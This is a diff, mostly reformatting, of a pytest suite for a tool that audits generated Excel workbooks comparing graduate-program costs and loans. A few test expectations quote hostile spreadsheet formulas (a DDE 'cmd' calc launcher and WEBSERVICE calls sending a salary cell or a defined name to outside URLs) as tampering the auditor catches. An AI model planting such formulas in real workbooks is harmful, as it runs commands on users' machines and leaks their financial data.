@@ -77,9 +77,19 @@ def cached(src: Path, dest: Path, sheet: str, ref: str, value: str, kind: str = 
     assert formula is not None, f"{sheet}!{ref} holds no formula"
     attrs = re.sub(rb'\st="[^"]*"', b"", match.group(1))
     kind_attr = b"" if kind == "n" else b' t="' + kind.encode() + b'"'
-    cell = (b'<c r="' + ref.encode() + b'"' + attrs + kind_attr + b">" + formula.group(0)
-            + b"<v>" + value.encode() + b"</v></c>")
-    parts[part] = xml[:match.start()] + cell + xml[match.end():]
+    cell = (
+        b'<c r="'
+        + ref.encode()
+        + b'"'
+        + attrs
+        + kind_attr
+        + b">"
+        + formula.group(0)
+        + b"<v>"
+        + value.encode()
+        + b"</v></c>"
+    )
+    parts[part] = xml[: match.start()] + cell + xml[match.end() :]
     with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as out:
         for name, payload in parts.items():
             out.writestr(name, payload)
@@ -88,11 +98,14 @@ def cached(src: Path, dest: Path, sheet: str, ref: str, value: str, kind: str = 
 
 # --- clean files ----------------------------------------------------------------------------
 
+
 def test_a_freshly_generated_workbook_passes(fresh):
     result = run("check", str(fresh))
     assert result.exit_code == 0, result.stdout
-    assert result.stdout == (f"{fresh}: OK, 8 options; checked formulas, inputs and error values "
-                             "(no cached results to compare: the file was never calculated)\n")
+    assert result.stdout == (
+        f"{fresh}: OK, 8 options; checked formulas, inputs and error values "
+        "(no cached results to compare: the file was never calculated)\n"
+    )
     assert result.stderr == ""
 
 
@@ -101,8 +114,10 @@ def test_a_workbook_with_the_values_ironcalc_computed_passes(tmp_path):
     path = write_workbook(tmp_path / "client.xlsx", computed=True)
     result = run("check", str(path))
     assert result.exit_code == 0, result.stdout
-    assert result.stdout == (f"{path}: OK, 8 options; checked formulas, inputs, error "
-                             "values and results against the model\n")
+    assert result.stdout == (
+        f"{path}: OK, 8 options; checked formulas, inputs, error "
+        "values and results against the model\n"
+    )
 
 
 @pytest.mark.libreoffice
@@ -112,8 +127,10 @@ def test_a_workbook_recalculated_by_libreoffice_passes(calculated, soffice):
     assert [str(f) for f in report.findings] == []
     result = run("check", str(calculated))
     assert result.exit_code == 0
-    assert result.stdout == (f"{calculated}: OK, 8 options; checked formulas, inputs, error "
-                             "values and results against the model\n")
+    assert result.stdout == (
+        f"{calculated}: OK, 8 options; checked formulas, inputs, error "
+        "values and results against the model\n"
+    )
 
 
 def test_a_workbook_of_other_inputs_passes(tmp_path):
@@ -126,6 +143,7 @@ def test_a_workbook_of_other_inputs_passes(tmp_path):
 
 # --- tampering ------------------------------------------------------------------------------
 
+
 def test_a_formula_overwritten_with_a_number(fresh, tmp_path):
     path = edited(fresh, tmp_path / "t.xlsx", Summary={f"{PAY}{ROW}": 4.2})
     result = run("check", str(path))
@@ -135,15 +153,17 @@ def test_a_formula_overwritten_with_a_number(fresh, tmp_path):
     formula = openpyxl.load_workbook(fresh)[layout.SUMMARY][f"{PAY}{ROW}"].value
     assert formula.startswith("=IF(MIN('Cash flows'!") and len(formula) > 80
     # formulas longer than 80 characters are shown by their first 77 and "..."
-    assert lines[1] == (f"  {PAYBACK}: formula replaced by the number 4.2 (expected "
-                        f"{formula[:77]}...)")
+    assert lines[1] == (
+        f"  {PAYBACK}: formula replaced by the number 4.2 (expected {formula[:77]}...)"
+    )
 
 
 def test_a_formula_overwritten_with_text(fresh, tmp_path):
     path = edited(fresh, tmp_path / "t.xlsx", Loans={PRIVATE_PAYMENT: "about 400"})
     [finding] = audit(path).findings
-    assert str(finding).startswith(f"Loans!{PRIVATE_PAYMENT}: formula replaced by the text "
-                                   "'about 400' (expected =IF(")
+    assert str(finding).startswith(
+        f"Loans!{PRIVATE_PAYMENT}: formula replaced by the text 'about 400' (expected =IF("
+    )
 
 
 def test_a_formula_deleted(fresh, tmp_path):
@@ -155,17 +175,21 @@ def test_a_formula_deleted(fresh, tmp_path):
 def test_a_formula_edited(fresh, tmp_path):
     npv = openpyxl.load_workbook(fresh)[layout.SUMMARY][f"{NPV}{ROW}"].value
     assert npv.startswith("=NPV(DiscountRate,")  # the NPV column, as generated
-    path = edited(fresh, tmp_path / "t.xlsx",
-                  Summary={f"{NPV}{ROW}": npv.replace("DiscountRate", "0.03")})
+    path = edited(
+        fresh, tmp_path / "t.xlsx", Summary={f"{NPV}{ROW}": npv.replace("DiscountRate", "0.03")}
+    )
     [finding] = audit(path).findings
-    assert str(finding) == (f"Summary!{NPV}{ROW}: formula changed to "
-                            f"{npv.replace('DiscountRate', '0.03')} (expected {npv})")
+    assert str(finding) == (
+        f"Summary!{NPV}{ROW}: formula changed to "
+        f"{npv.replace('DiscountRate', '0.03')} (expected {npv})"
+    )
 
 
 def test_a_formula_added_where_none_belongs(fresh, tmp_path):
     path = edited(fresh, tmp_path / "t.xlsx", Summary={"Z1": "=1+1"})
     assert [str(f) for f in audit(path).findings] == [
-        "Summary!Z1: a formula where the generator writes none: =1+1"]
+        "Summary!Z1: a formula where the generator writes none: =1+1"
+    ]
 
 
 def program(field: str, column: str = "C") -> tuple[str, str]:
@@ -178,24 +202,39 @@ def person(field: str) -> tuple[str, str]:
     return layout.INPUTS, f"B{layout.INPUTS_FIRST_ROW + list(fields.PERSON).index(field)}"
 
 
-@pytest.mark.parametrize(("where", "value", "message"), [
-    (program("tuition_per_year"), -5, "tuition_per_year: -5 is out of range; allowed: a number "
-     "from 0 to 500,000"),
-    (program("loan_apr", "D"), 7.94, "loan_apr: 7.94 looks like a percentage; enter 0.0794"),
-    (program("years", "E"), 300, "years: 300 is out of range; allowed: a number above 0 and at "
-     "most 10"),
-    (program("kind"), "phd", "kind: 'phd' is not allowed; allowed: one of masters"),
-    (program("name"), None, "name: is empty; every option needs a name"),
-    (program("capitalize_interest"), "maybe", "capitalize_interest: 'maybe' is not TRUE or "
-     "FALSE"),
-    (program("grace_months"), 6.5, "grace_months: 6.5 is not a whole number"),
-    (person("salary"), "lots", "salary: 'lots' is not a number; allowed: a number from 0 to"),
-    (person("salary"), 1e12, "salary: 1e+12 is out of range"),
-    (person("salary"), None, "salary: is empty; allowed"),
-    (person("horizon_years"), 0, "horizon_years: 0 is out of range; allowed: a whole number "
-     "from 1 to 80"),
-    (person("tax_rate"), "#N/A", "tax_rate: holds the error #N/A"),
-])
+@pytest.mark.parametrize(
+    ("where", "value", "message"),
+    [
+        (
+            program("tuition_per_year"),
+            -5,
+            "tuition_per_year: -5 is out of range; allowed: a number from 0 to 500,000",
+        ),
+        (program("loan_apr", "D"), 7.94, "loan_apr: 7.94 looks like a percentage; enter 0.0794"),
+        (
+            program("years", "E"),
+            300,
+            "years: 300 is out of range; allowed: a number above 0 and at most 10",
+        ),
+        (program("kind"), "phd", "kind: 'phd' is not allowed; allowed: one of masters"),
+        (program("name"), None, "name: is empty; every option needs a name"),
+        (
+            program("capitalize_interest"),
+            "maybe",
+            "capitalize_interest: 'maybe' is not TRUE or FALSE",
+        ),
+        (program("grace_months"), 6.5, "grace_months: 6.5 is not a whole number"),
+        (person("salary"), "lots", "salary: 'lots' is not a number; allowed: a number from 0 to"),
+        (person("salary"), 1e12, "salary: 1e+12 is out of range"),
+        (person("salary"), None, "salary: is empty; allowed"),
+        (
+            person("horizon_years"),
+            0,
+            "horizon_years: 0 is out of range; allowed: a whole number from 1 to 80",
+        ),
+        (person("tax_rate"), "#N/A", "tax_rate: holds the error #N/A"),
+    ],
+)
 def test_an_input_out_of_range(fresh, tmp_path, where, value, message):
     sheet, ref = where
     path = edited(fresh, tmp_path / "t.xlsx", **{sheet: {ref: value}})
@@ -217,13 +256,15 @@ def test_an_input_typed_as_a_formula(fresh, tmp_path):
     sheet, ref = program("tuition_per_year")
     path = edited(fresh, tmp_path / "t.xlsx", **{sheet: {ref: "=52000*1.1"}})
     assert [str(f) for f in audit(path).findings] == [
-        f"{sheet}!{ref}: input holds the formula =52000*1.1; the generator writes a value here"]
+        f"{sheet}!{ref}: input holds the formula =52000*1.1; the generator writes a value here"
+    ]
 
 
 def test_an_error_value(fresh, tmp_path):
     path = cached(fresh, tmp_path / "t.xlsx", layout.LOANS, PRIVATE_PAYMENT, "#DIV/0!", "e")
     assert [str(f) for f in audit(path).findings] == [
-        f"Loans!{PRIVATE_PAYMENT}: shows the error #DIV/0!"]
+        f"Loans!{PRIVATE_PAYMENT}: shows the error #DIV/0!"
+    ]
     assert run("check", str(path)).exit_code == 1
 
 
@@ -233,20 +274,24 @@ def test_a_cached_result_that_disagrees_with_the_model(fresh, tmp_path):
     [finding] = audit(path).findings
     assert finding.cell == PAYBACK and finding.kind == "result"
     assert finding.message.startswith("shows 4.2 but the model gives ")
-    assert finding.message.endswith("for this workbook's inputs (Payback at the expected "
-                                    "outcome of "
-                                    "'Carnegie Mellon MS in ML (in person)')")
+    assert finding.message.endswith(
+        "for this workbook's inputs (Payback at the expected "
+        "outcome of "
+        "'Carnegie Mellon MS in ML (in person)')"
+    )
 
 
 def test_a_cached_result_within_the_tolerance_passes(fresh, tmp_path):
     from mlworth_xl import compare
 
     npv = float(compare()["NPV"][0])
-    close = cached(fresh, tmp_path / "close.xlsx", layout.SUMMARY, f"{NPV}{ROW}",
-                   repr(npv * 1.0001))
+    close = cached(
+        fresh, tmp_path / "close.xlsx", layout.SUMMARY, f"{NPV}{ROW}", repr(npv * 1.0001)
+    )
     assert [f.kind for f in audit(close).findings] == ["result"]  # 1e-4 off: caught
-    exact = cached(fresh, tmp_path / "exact.xlsx", layout.SUMMARY, f"{NPV}{ROW}",
-                   f"{npv:.15g}")  # 15 digits, as LibreOffice and Excel store them
+    exact = cached(
+        fresh, tmp_path / "exact.xlsx", layout.SUMMARY, f"{NPV}{ROW}", f"{npv:.15g}"
+    )  # 15 digits, as LibreOffice and Excel store them
     assert audit(exact).findings == []
 
 
@@ -254,14 +299,19 @@ def test_a_cached_result_within_the_tolerance_passes(fresh, tmp_path):
 def test_tampering_with_a_recalculated_workbook(calculated, tmp_path, soffice):
     stale = cached(calculated, tmp_path / "stale.xlsx", layout.CASH_FLOWS, CUMULATIVE, "123")
     assert [(f.cell, f.kind) for f in audit(stale).findings] == [
-        (f"Cash flows!{CUMULATIVE}", "result")]
+        (f"Cash flows!{CUMULATIVE}", "result")
+    ]
     typed = edited(calculated, tmp_path / "typed.xlsx", Summary={f"{PAY}{ROW}": 4.2})
     assert [f.cell for f in audit(typed).findings] == [PAYBACK]
 
 
 def test_many_problems_are_all_reported(fresh, tmp_path):
-    path = edited(fresh, tmp_path / "t.xlsx", Summary={f"{PAY}{r}": 1 for r in range(7, 15)},
-                  Programs={"C8": -1})
+    path = edited(
+        fresh,
+        tmp_path / "t.xlsx",
+        Summary={f"{PAY}{r}": 1 for r in range(7, 15)},
+        Programs={"C8": -1},
+    )
     result = run("check", str(path))
     assert result.exit_code == 1
     assert result.stdout.splitlines()[0].startswith(f"{path}: 9 problems")
@@ -270,19 +320,26 @@ def test_many_problems_are_all_reported(fresh, tmp_path):
 
 # --- files that are not comparison workbooks ------------------------------------------------
 
-@pytest.mark.parametrize(("make", "words"), [
-    (lambda p: p.write_text("name,years\n"), "not an Excel .xlsx workbook"),
-    (lambda p: p.write_bytes(b""), "the file is empty"),
-    (lambda p: None, "file not found"),
-])
+
+@pytest.mark.parametrize(
+    ("make", "words"),
+    [
+        (lambda p: p.write_text("name,years\n"), "not an Excel .xlsx workbook"),
+        (lambda p: p.write_bytes(b""), "the file is empty"),
+        (lambda p: None, "file not found"),
+    ],
+)
 def test_not_a_workbook_fails_cleanly(tmp_path, make, words):
     path = tmp_path / "client.xlsx"
     make(path)
     result = run("check", str(path))
     assert result.exit_code == 2
     assert result.stdout == ""
-    assert result.stderr == f"mlworth-xl: error: {path}: workbook: {words}" + (
-        result.stderr[len(f"mlworth-xl: error: {path}: workbook: {words}"):])
+    assert (
+        result.stderr
+        == f"mlworth-xl: error: {path}: workbook: {words}"
+        + (result.stderr[len(f"mlworth-xl: error: {path}: workbook: {words}") :])
+    )
     assert result.stderr.count("\n") == 1
 
 
@@ -290,14 +347,18 @@ def test_a_wrong_extension(tmp_path):
     path = tmp_path / "client.csv"
     path.write_text("x")
     assert run("check", str(path)).stderr == (
-        f"mlworth-xl: error: {path}: workbook: unknown file type '.csv'; allowed: .xlsx, .xlsm\n")
+        f"mlworth-xl: error: {path}: workbook: unknown file type '.csv'; allowed: .xlsx, .xlsm\n"
+    )
 
 
 def test_some_other_workbook(tmp_path):
     path = tmp_path / "budget.xlsx"
     openpyxl.Workbook().save(path)
-    with pytest.raises(InputError, match="it has none of the sheets Inputs, Programs, Summary, "
-                       "Cash flows, Loans; this is not a comparison workbook"):
+    with pytest.raises(
+        InputError,
+        match="it has none of the sheets Inputs, Programs, Summary, "
+        "Cash flows, Loans; this is not a comparison workbook",
+    ):
         audit(path)
     result = run("check", str(path))
     assert result.exit_code == 2 and result.stderr.count("\n") == 1
@@ -332,8 +393,9 @@ def test_an_option_switched_to_rap_without_a_block_is_an_input_problem(fresh, tm
     path = edited(fresh, tmp_path / "t.xlsx", **{sheet: {ref: 2}})
     findings = audit(path).findings
     assert [(f.cell, f.kind) for f in findings] == [(f"{sheet}!{ref}", "input")]
-    assert findings[0].message.startswith("repayment_plan: 2 (RAP), but this workbook has no "
-                                          "block on the RAP sheet for this option.")
+    assert findings[0].message.startswith(
+        "repayment_plan: 2 (RAP), but this workbook has no block on the RAP sheet for this option."
+    )
     assert "`mlworth-xl workbook --programs FILE`" in findings[0].message
     result = run("check", str(path))
     assert result.exit_code == 1 and f"{sheet}!{ref}: repayment_plan: 2 (RAP)" in result.stdout
@@ -350,8 +412,11 @@ def test_options_with_a_rap_block_may_leave_rap_and_others_may_not_join(tmp_path
     # the block stays live: option 2 switched to fixed (0) is a workbook as generated for it,
     # but for the odds written with it (the model's median payback, expected NPV …), which the
     # Summary now says are out of date: one finding
-    left = edited(path, tmp_path / "left.xlsx",
-                  **dict([(layout.PROGRAMS, {program("repayment_plan", "D")[1]: 0})]))
+    left = edited(
+        path,
+        tmp_path / "left.xlsx",
+        **dict([(layout.PROGRAMS, {program("repayment_plan", "D")[1]: 0})]),
+    )
     assert [(f.cell, f.kind) for f in audit(left).findings] == [(layout.ODDS, "value")]
     # option 3 has no block: switching it to RAP is reported, and nothing else
     sheet, ref = program("repayment_plan", "E")
@@ -360,6 +425,7 @@ def test_options_with_a_rap_block_may_leave_rap_and_others_may_not_join(tmp_path
 
 
 # --- what else the file vouches for: sheets, shapes, values, the Risk sheet -----------------
+
 
 def check_lines(path: Path) -> tuple[int, list[str]]:
     result = run("check", str(path))
@@ -392,30 +458,53 @@ def test_an_added_sheet_and_its_formulas_are_reported(fresh, tmp_path):
         "  Notes: a sheet the generator does not write; allowed: Guide, Inputs, Programs, "
         "Roles, Summary, Risk, Odds, Cash flows, Loans, Sources",
         "  Notes!A1: a formula where the generator writes none: =cmd|' /C calc'!A0",
-        '  Notes!A2: a formula where the generator writes none: '
-        '=WEBSERVICE("http://example.com/?"&Salary)']
+        "  Notes!A2: a formula where the generator writes none: "
+        '=WEBSERVICE("http://example.com/?"&Salary)',
+    ]
 
 
-@pytest.mark.parametrize(("change", "finding"), [
-    (lambda wb: setattr(wb[layout.SUMMARY], "title", "Results"),
-     "Results: sheet 'Summary' renamed to 'Results'"),
-    (lambda wb: wb.remove(wb[layout.LOANS]), "Loans: sheet is missing"),
-    (lambda wb: wb.remove(wb[layout.SOURCES]), "Sources: sheet is missing"),
-    (lambda wb: wb.move_sheet(layout.SOURCES, offset=-9),
-     "workbook: sheets in the order Sources, Guide, Inputs, Programs, Roles, Summary, Risk, Odds, "
-     "Cash flows, Loans; the generator writes Guide, Inputs, Programs, Roles, Summary, Risk, "
-     "Odds, Cash flows, Loans, Sources"),
-    (lambda wb: wb[layout.SUMMARY].insert_cols(3),
-     "Summary!C:C: a column inserted at column C; the cells after it no longer are where the "
-     "generator writes them (the sheet's cells are not compared one by one)"),
-    (lambda wb: wb[layout.LOANS].insert_rows(5), "Loans!5:5: a row inserted at row 5;"),
-    # columns B to E hold cells in the same rows: deleting any one of them looks the same
-    (lambda wb: wb[layout.CASH_FLOWS].delete_cols(4), "Cash flows!E:E: a column deleted among "
-     "columns B to E;"),
-    (lambda wb: wb[layout.INPUTS].delete_rows(6), "Inputs!13:13: a row deleted among rows 4 "
-     "to 13;"),
-], ids=["renamed", "deleted", "deleted-last", "moved", "column-inserted", "row-inserted",
-        "column-deleted", "row-deleted"])
+@pytest.mark.parametrize(
+    ("change", "finding"),
+    [
+        (
+            lambda wb: setattr(wb[layout.SUMMARY], "title", "Results"),
+            "Results: sheet 'Summary' renamed to 'Results'",
+        ),
+        (lambda wb: wb.remove(wb[layout.LOANS]), "Loans: sheet is missing"),
+        (lambda wb: wb.remove(wb[layout.SOURCES]), "Sources: sheet is missing"),
+        (
+            lambda wb: wb.move_sheet(layout.SOURCES, offset=-9),
+            "workbook: sheets in the order Sources, Guide, Inputs, Programs, Roles, Summary, "
+            "Risk, Odds, Cash flows, Loans; the generator writes Guide, Inputs, Programs, Roles, "
+            "Summary, Risk, Odds, Cash flows, Loans, Sources",
+        ),
+        (
+            lambda wb: wb[layout.SUMMARY].insert_cols(3),
+            "Summary!C:C: a column inserted at column C; the cells after it no longer are where "
+            "the generator writes them (the sheet's cells are not compared one by one)",
+        ),
+        (lambda wb: wb[layout.LOANS].insert_rows(5), "Loans!5:5: a row inserted at row 5;"),
+        # columns B to E hold cells in the same rows: deleting any one of them looks the same
+        (
+            lambda wb: wb[layout.CASH_FLOWS].delete_cols(4),
+            "Cash flows!E:E: a column deleted among columns B to E;",
+        ),
+        (
+            lambda wb: wb[layout.INPUTS].delete_rows(6),
+            "Inputs!13:13: a row deleted among rows 4 to 13;",
+        ),
+    ],
+    ids=[
+        "renamed",
+        "deleted",
+        "deleted-last",
+        "moved",
+        "column-inserted",
+        "row-inserted",
+        "column-deleted",
+        "row-deleted",
+    ],
+)
 def test_a_changed_structure_is_a_finding_that_names_it(fresh, tmp_path, change, finding):
     code, lines = check_lines(reshaped(fresh, tmp_path / "t.xlsx", change))
     assert code == 1, lines
@@ -435,7 +524,8 @@ def test_an_edited_risk_probability_is_reported(fresh, tmp_path):
     assert 0 < value < 1  # a share of the 100,000 draws, as simulated
     path = edited(fresh, tmp_path / "t.xlsx", Risk={ref: 0.99})
     assert [str(f) for f in audit(path).findings] == [
-        f"Risk!{ref}: holds the number 0.99; the generator writes the number {value:g}"]
+        f"Risk!{ref}: holds the number 0.99; the generator writes the number {value:g}"
+    ]
 
 
 def test_edited_risk_draws_are_reported(fresh, tmp_path):
@@ -443,24 +533,30 @@ def test_edited_risk_draws_are_reported(fresh, tmp_path):
     path = edited(fresh, tmp_path / "t.xlsx", Risk={"B4": 1000})
     [finding] = audit(path).findings
     assert finding.cell == "Risk" and finding.kind == "value"
-    assert "values differ from a simulation of this workbook's inputs with the draws and seed " \
-           "of its stamp" in finding.message
+    assert (
+        "values differ from a simulation of this workbook's inputs with the draws and seed "
+        "of its stamp" in finding.message
+    )
 
 
-@pytest.mark.parametrize(("value", "shown"), [
-    ("lots", "the text 'lots'"), (10**9, "the number 1e+09"), (0.5, "the number 0.5")])
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [("lots", "the text 'lots'"), (10**9, "the number 1e+09"), (0.5, "the number 0.5")],
+)
 def test_a_risk_stamp_that_is_not_allowed_is_reported(fresh, tmp_path, value, shown):
     path = edited(fresh, tmp_path / "t.xlsx", Risk={"B4": value})
     assert [str(f) for f in audit(path).findings] == [
         f"Risk!B4: the stamp's draws: {shown} is not allowed; allowed: a whole number from 1 to "
-        "10,000,000 (the Risk sheet's values are not checked)"]
+        "10,000,000 (the Risk sheet's values are not checked)"
+    ]
 
 
 def test_a_formula_added_on_the_risk_sheet_is_reported(fresh, tmp_path):
     ref = _risk_cell("target_probability", 1)
     path = edited(fresh, tmp_path / "t.xlsx", Risk={ref: "=1-0"})
     assert [str(f) for f in audit(path).findings] == [
-        f"Risk!{ref}: a formula where the generator writes none: =1-0"]
+        f"Risk!{ref}: a formula where the generator writes none: =1-0"
+    ]
 
 
 def test_an_input_edited_leaves_the_risk_and_sources_sheets_stale_and_says_so(fresh, tmp_path):
@@ -474,11 +570,13 @@ def test_an_input_edited_leaves_the_risk_and_sources_sheets_stale_and_says_so(fr
 
     first = odds_sheet.scalar(0, "written_chance").replace("$", "")
     assert [f.cell for f in findings] == ["Risk", "Odds", "Sources"]
-    assert findings[1].message.startswith("6 values differ from the odds the model gives this "
-                                          "workbook's inputs") and f"(first {first}:" in (
-        findings[1].message)
-    assert " values differ from a simulation of this workbook's inputs with the draws and seed " \
+    assert findings[1].message.startswith(
+        "6 values differ from the odds the model gives this workbook's inputs"
+    ) and f"(first {first}:" in (findings[1].message)
+    assert (
+        " values differ from a simulation of this workbook's inputs with the draws and seed "
         "of its stamp" in findings[0].message
+    )
     # the first cell that differs is the row of the cited tuition, which the edit drops: every
     # row below it moves up one
     from mlworth_xl.model.records import Person, Programs
@@ -487,21 +585,35 @@ def test_an_input_edited_leaves_the_risk_and_sources_sheets_stale_and_says_so(fr
     keys = [f.key for f in figures_used(Programs.default(), Person())]
     row = layout.SOURCES_FIRST_ROW + keys.index("tuition.cmu_ml_masters")
     assert f" values differ from the sources of this workbook's inputs (first Sources!A{row}: " in (
-        findings[-1].message)
-    assert all(f.message.endswith("run `mlworth-xl workbook` again to refresh it")
-               for f in (findings[0], findings[-1]))
+        findings[-1].message
+    )
+    assert all(
+        f.message.endswith("run `mlworth-xl workbook` again to refresh it")
+        for f in (findings[0], findings[-1])
+    )
 
 
-@pytest.mark.parametrize(("sheet", "ref", "value", "message"), [
-    # MonthsPerYear (Inputs, constants): the loan formulas divide by it
-    (layout.INPUTS, f"B{layout.INPUTS_CONSTANT_ROW}", 13,
-     "holds the number 13; the generator writes the number 12"),
-    (layout.SUMMARY, "A1", "Results", "holds the text 'Results'; the generator writes the text"),
-    (layout.LOANS, "A5", None, "emptied; the generator writes the text"),
-    (layout.GUIDE, "H3", "note", "holds the text 'note' where the generator writes nothing"),
-])
-def test_an_edited_value_that_is_no_input_is_reported(fresh, tmp_path, sheet, ref, value,
-                                                      message):
+@pytest.mark.parametrize(
+    ("sheet", "ref", "value", "message"),
+    [
+        # MonthsPerYear (Inputs, constants): the loan formulas divide by it
+        (
+            layout.INPUTS,
+            f"B{layout.INPUTS_CONSTANT_ROW}",
+            13,
+            "holds the number 13; the generator writes the number 12",
+        ),
+        (
+            layout.SUMMARY,
+            "A1",
+            "Results",
+            "holds the text 'Results'; the generator writes the text",
+        ),
+        (layout.LOANS, "A5", None, "emptied; the generator writes the text"),
+        (layout.GUIDE, "H3", "note", "holds the text 'note' where the generator writes nothing"),
+    ],
+)
+def test_an_edited_value_that_is_no_input_is_reported(fresh, tmp_path, sheet, ref, value, message):
     path = edited(fresh, tmp_path / "t.xlsx", **{sheet: {ref: value}})
     findings = audit(path).findings
     assert [(f.cell, f.kind) for f in findings] == [(f"{sheet}!{ref}", "value")]
@@ -522,6 +634,7 @@ def test_an_edited_cached_value_on_loans_is_reported(calculated, tmp_path, soffi
 
 # --- property: a generated file passes, any single edit is reported -------------------------
 
+
 @pytest.fixture(scope="module")
 def cells(fresh):
     """The fresh workbook loaded once, and its cells: formulas and values that are no inputs."""
@@ -530,9 +643,15 @@ def cells(fresh):
     run_ = _Audit(fresh)
     run_.read_inputs()
     wb = openpyxl.load_workbook(fresh)
-    found = sorted((ws.title, c.coordinate) for ws in wb.worksheets for row in ws.iter_rows()
-                   for c in row if c.value is not None and type(c).__name__ == "Cell"
-                   and f"{ws.title}!{c.coordinate}" not in run_.input_cells)
+    found = sorted(
+        (ws.title, c.coordinate)
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if c.value is not None
+        and type(c).__name__ == "Cell"
+        and f"{ws.title}!{c.coordinate}" not in run_.input_cells
+    )
     return wb, found
 
 
@@ -559,8 +678,13 @@ def test_property_any_generated_workbook_passes(tmp_path_factory):
     @given(st.integers(0, len(sets) - 1), st.booleans())
     def passes(k, with_risk):
         programs, person = sets[k]
-        path = write_workbook(folder / f"w{k}{with_risk}.xlsx", programs, person, force=True,
-                              risk=replace_risk(with_risk))
+        path = write_workbook(
+            folder / f"w{k}{with_risk}.xlsx",
+            programs,
+            person,
+            force=True,
+            risk=replace_risk(with_risk),
+        )
         assert audit(path).findings == []
 
     passes()
@@ -603,10 +727,15 @@ def test_property_any_edited_cached_value_is_reported(calculated, tmp_path_facto
 
     values = openpyxl.load_workbook(calculated, data_only=True)
     formulas = openpyxl.load_workbook(calculated)
-    numeric = sorted((ws.title, c.coordinate) for ws in formulas.worksheets
-                     for row in ws.iter_rows() for c in row if c.data_type == "f"
-                     and isinstance(values[ws.title][c.coordinate].value, int | float)
-                     and not isinstance(values[ws.title][c.coordinate].value, bool))
+    numeric = sorted(
+        (ws.title, c.coordinate)
+        for ws in formulas.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if c.data_type == "f"
+        and isinstance(values[ws.title][c.coordinate].value, int | float)
+        and not isinstance(values[ws.title][c.coordinate].value, bool)
+    )
     folder = tmp_path_factory.mktemp("cached")
 
     @settings(max_examples=6, deadline=None, suppress_health_check=list(HealthCheck))
@@ -632,4 +761,5 @@ def test_a_defined_name_pointed_elsewhere_or_added_is_reported(fresh, tmp_path):
     path = reshaped(fresh, tmp_path / "t.xlsx", _renamed_target)
     assert sorted(str(f) for f in audit(path).findings) == [
         f"name DiscountRate: refers to Inputs!$B$99; the generator writes {original}",
-        'name Leak: a defined name the generator does not write: Leak = WEBSERVICE("http://x")']
+        'name Leak: a defined name the generator does not write: Leak = WEBSERVICE("http://x")',
+    ]
